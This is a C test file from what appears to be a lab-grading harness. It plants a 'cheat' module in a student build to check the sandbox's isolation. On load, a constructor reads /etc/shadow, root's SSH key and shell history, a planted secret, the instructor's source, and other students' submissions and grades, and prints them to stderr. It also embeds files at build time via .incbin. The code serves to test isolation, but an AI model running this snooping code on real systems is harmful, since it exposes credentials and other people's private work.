// SPDX-License-Identifier: GPL-2.0
/*
 * Cheat (g), appended to the solution's vmm/result.c by run.sh: it
 * tries to read what a student must not see, and to hand it out: the
 * instructor's tree (CHEAT_SRC, run.sh's srctree, and /work/main), a
 * secret run.sh plants beside the batch (CHEAT_SECRET), root's files,
 * the other students' submissions (CHEAT_SUBS), their work areas and
 * their results (CHEAT_OUT). At build time it embeds those files if
 * the compiler can see them (.incbin); at run time it prints whatever
 * it could open on stderr, as "LEAK PATH: ...", which would land in
 * its feedback (its own tree's files aside: it may read those). None of it may be there: run.sh checks its outputs for
 * the marker, and for the secret's and the other students' canaries.
 */
#include <glob.h>
#include <libgen.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <kvmlab/kernel.h>

#ifndef CHEAT_SRC
#define CHEAT_SRC "/work/main"
#define CHEAT_SRC_VM "/work/main/vmm/core/vm.c"
#define CHEAT_SECRET "/root/secret"
#define CHEAT_SUBS "/var/tmp/submissions"
#define CHEAT_OUT "/var/tmp/grades"
#endif
#define CHEAT_QUOTE(s) #s
#define CHEAT_Q(s) CHEAT_QUOTE(s)

#if __has_include(CHEAT_SECRET)
asm(".pushsection .rodata\n.incbin " CHEAT_Q(CHEAT_SECRET) "\n.popsection");
#define CHEAT_EMBEDDED 1
#endif
#if __has_include(CHEAT_SRC_VM)
asm(".pushsection .rodata\n.incbin " CHEAT_Q(CHEAT_SRC_VM) "\n.popsection");
#define CHEAT_EMBEDDED 1
#endif

/* The tree the program runs from: its own files are no leak. */
static char cheat_self[4096];

static void cheat_leak(const char *path)
{
	char buf[256], real[4096];
	size_t n, len = strlen(cheat_self);
	struct stat st;
	FILE *f;

	if (!realpath(path, real) || stat(real, &st) || !S_ISREG(st.st_mode))
		return;
	if (len && !strncmp(real, cheat_self, len) && real[len] == '/')
		return;
	f = fopen(real, "r");
	if (!f)
		return;
	n = fread(buf, 1, sizeof(buf) - 1, f);
	buf[n] = '\0';
	fclose(f);
	fprintf(stderr, "LEAK %s: %s\n", path, buf);
}

static void cheat_leak_glob(const char *pattern)
{
	glob_t g;
	size_t i;

	if (glob(pattern, GLOB_NOSORT, NULL, &g))
		return;
	for (i = 0; i < g.gl_pathc; i++)
		cheat_leak(g.gl_pathv[i]);
	globfree(&g);
}

__attribute__((constructor)) static void cheat_snoop(void)
{
	static const char * const paths[] = {
		CHEAT_SECRET, CHEAT_SRC_VM, CHEAT_SRC "/Makefile",
		"/work/main/vmm/core/vm.c", "/work/main/Makefile",
		"/root/.bash_history", "/root/.ssh/id_rsa", "/etc/shadow",
	};
	static const char * const globs[] = {
		CHEAT_SUBS "/*/vmm/core/vm.c", CHEAT_OUT "/*/feedback.txt",
		CHEAT_OUT "/*/logs/build.log",
		"/var/tmp/kvmlab-grade.*/area/*/vmm/core/vm.c",
		"/var/tmp/*/work/kvmlab-grade.*/area/*/vmm/core/vm.c",
		"/var/tmp/kvmlab-grade.*/in/*/vmm/core/vm.c",
		"/var/tmp/kvmlab-grade.*/res/*/results.json",
		"/var/tmp/kvmlab-cheats.*/*",
		"/tmp/*/vmm/core/vm.c",
	};
	ssize_t len;
	unsigned int i;
	char *top;

	/* vmm/vmm or checker/unit: the tree is two levels up. */
	len = readlink("/proc/self/exe", cheat_self, sizeof(cheat_self) - 1);
	cheat_self[len > 0 ? len : 0] = '\0';
	top = dirname(dirname(cheat_self));
	memmove(cheat_self, top, strlen(top) + 1);
#ifdef CHEAT_EMBEDDED
	fprintf(stderr, "LEAK embedded at build time\n");
#endif
	for (i = 0; i < ARRAY_SIZE(paths); i++)
		cheat_leak(paths[i]);
	for (i = 0; i < ARRAY_SIZE(globs); i++)
		cheat_leak_glob(globs[i]);
}
